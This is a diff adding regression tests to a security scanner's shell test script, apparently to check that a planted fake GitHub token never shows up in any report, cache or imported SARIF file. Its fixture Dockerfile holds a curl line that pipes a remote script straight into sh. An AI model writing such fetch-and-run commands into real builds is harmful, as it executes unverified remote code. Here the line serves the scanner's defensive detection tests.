@@ -37,6 +37,22 @@ check "nothing but the result on a pipe" [ ! -s "$work/err" ]
 "$redoubt" scan "$work/leak" -j 1 --no-cache --format sarif >"$work/a" 2>/dev/null; "$redoubt" scan "$work/leak" -j 4 --no-cache --format sarif >"$work/b" 2>/dev/null
 check "the same bytes whatever the number of threads" cmp -s "$work/a" "$work/b"
 
+# A secret where another engine or another tool has something to say about the line.
+mkdir "$work/image"
+token="ghp_""Qm4xT9vLc2RkZ7sWp0HyBn6JdGfEa30t2jmR"
+printf 'FROM debian:12\nRUN curl -H "Authorization: token %s" http://x/y.sh | sh\nRUN curl -k -H "Authorization: token %s" https://api.github.com\n' "$token" "$token" >"$work/image/Dockerfile"
+printf '{"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "other", "rules": [{"id": "R1", "shortDescription": {"text": "uses %s"}}]}}, "results": [{"ruleId": "R1", "message": {"text": "curl sends %s"}, "locations": [{"physicalLocation": {"artifactLocation": {"uri": "Dockerfile"}, "region": {"startLine": 2, "snippet": {"text": "RUN curl %s"}}}}]}]}]}' "$token" "$token" "$token" >"$work/other.sarif"
+for engines in secrets,config config dependencies; do
+  for format in text json sarif html; do
+    "$redoubt" test "$work/image" --no-tools -e "$engines" --format "$format" >"$work/image.$format" 2>&1
+    check "$engines as $format shows no token" sh -c "! grep -q '$token' '$work/image.$format'"
+  done
+done
+check "the line of the token is reported" grep -q dockerfile-pipe-to-shell "$work/home" -r
+check "a SARIF report that quotes a token is imported" sh -c "'$redoubt' import '$work/other.sarif' '$work/image' | grep -q new"
+"$redoubt" finding list "$work/image" >"$work/out" 2>&1; "$redoubt" report "$work/image" --format json >>"$work/out" 2>&1
+if grep -rq "$token" "$work/home" "$work/out"; then bad "the token is in no store, cache or list"; else ok "the token is in no store, cache or list"; fi
+
 check "gate without a run is incomplete, not passed" exits 3 "$redoubt" gate "$work/broken/.." 
 check "gate judges the last run" exits 1 "$redoubt" gate "$work/leak"
 echo '# changed' >>"$work/leak/settings.py"
